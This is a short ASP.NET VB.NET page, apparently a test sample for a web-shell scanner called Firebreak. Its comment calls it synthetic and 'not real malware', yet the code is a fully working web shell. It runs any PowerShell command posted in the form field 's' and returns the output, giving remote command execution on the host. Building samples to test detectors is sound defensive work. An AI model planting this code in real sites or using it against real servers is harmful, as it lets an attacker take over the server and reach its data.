<%@ Page Language="VB" %>
<%-- Synthetic test sample for Firebreak: a VB.NET page that runs PowerShell
     with a script from a form field. Not real malware. --%>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        If request.form("s") <> "" Then
            Dim p As New System.Diagnostics.Process()
            p.StartInfo.FileName = "powershell.exe"
            p.StartInfo.Arguments = "-NoProfile -Command " & request.form("s")
            p.StartInfo.UseShellExecute = False
            p.StartInfo.RedirectStandardOutput = True
            p.Start()
            Response.Write(p.StandardOutput.ReadToEnd())
        End If
    End Sub
</script>
